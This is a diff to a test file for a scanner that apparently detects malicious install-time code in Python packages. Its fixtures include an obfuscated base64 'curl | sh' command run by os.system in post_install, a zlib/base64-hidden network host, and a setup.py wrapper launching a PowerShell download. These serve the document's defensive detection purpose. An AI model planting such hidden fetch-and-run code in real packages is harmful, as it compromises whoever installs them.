@@ -39,3 +39,63 @@ test('plain non-ASCII names that Python keeps as they are (Greek, accented) are 
   const one = ruleOf(findings('𝑥 = 1\n'), 'unicode-disguised-name');
   assert.equal(one?.severity, 'medium', 'one short maths letter stays medium');
 });
+
+test("a command decoded by the file's own helper function is folded through the call", () => {
+  const source = [
+    'import base64, os',
+    'def b64d(encoded):',
+    "    raw = base64.b64decode(encoded.encode('ascii'))",
+    "    return raw.decode('ascii')",
+    'def post_install():',
+    // base64 of: curl -s http://192.0.2.10/x.sh | sh
+    '    os.system(b64d("Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xMC94LnNoIHwgc2g="))',
+  ].join('\n');
+  const found = ruleOf(findings(source), 'download-execute');
+  assert.ok(found, 'the helper is followed with its argument');
+  assert.equal(found.destination?.host, '192.0.2.10');
+});
+
+test("a host decoded by a method of the file's own class is followed, and a host never written is high", () => {
+  const source = [
+    'import base64, zlib',
+    'from http.client import HTTPSConnection',
+    'class Client:',
+    '    def decode(self, data):',
+    '        unpack = lambda blob: zlib.decompress(base64.b64decode(blob))',
+    '        return unpack(data).decode()',
+    '    def ping(self):',
+    // zlib + base64 of: collector.example
+    "        conn = HTTPSConnection(self.decode('eJxLzs/JSU0uyS/SS61IzC3ISQUAPhIG4g=='))",
+    "        conn.request('GET', '/')",
+  ].join('\n');
+  const call = findings(source).find((f) => f.rule === 'egress-network-call' && f.destination?.host);
+  assert.equal(call?.destination?.host, 'collector.example');
+  assert.equal(call?.severity, 'high', 'a host the file never writes was hidden on purpose');
+  assert.match(call!.message, /never writes/);
+});
+
+test('a host written in the file stays low when a library calls it, even when assembled from a written domain', () => {
+  const source = [
+    'import requests',
+    'DOMAIN = "collector.example"',
+    'def fetch(region):',
+    '    return requests.get("https://api." + DOMAIN + "/v1")',
+  ].join('\n');
+  const call = ruleOf(findings(source), 'egress-network-call');
+  assert.equal(call?.destination?.host, 'api.collector.example');
+  assert.equal(call?.severity, 'low');
+});
+
+test("a command handed to the file's own wrapper reaches the process call inside it, with the caller's trigger", () => {
+  const source = [
+    'import subprocess',
+    'def run(cmd):',
+    '    subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)',
+    'run("powershell -command Invoke-WebRequest -Uri https://files.example/u.zip -OutFile u.zip")',
+  ].join('\n');
+  const found = ruleOf(findings(source, 'setup.py'), 'process-network-tool');
+  assert.equal(found?.line, 3);
+  assert.equal(found?.trigger, 'install', 'run() is called by setup.py itself');
+  assert.equal(found?.severity, 'critical');
+  assert.equal(found?.destination?.host, 'files.example');
+});
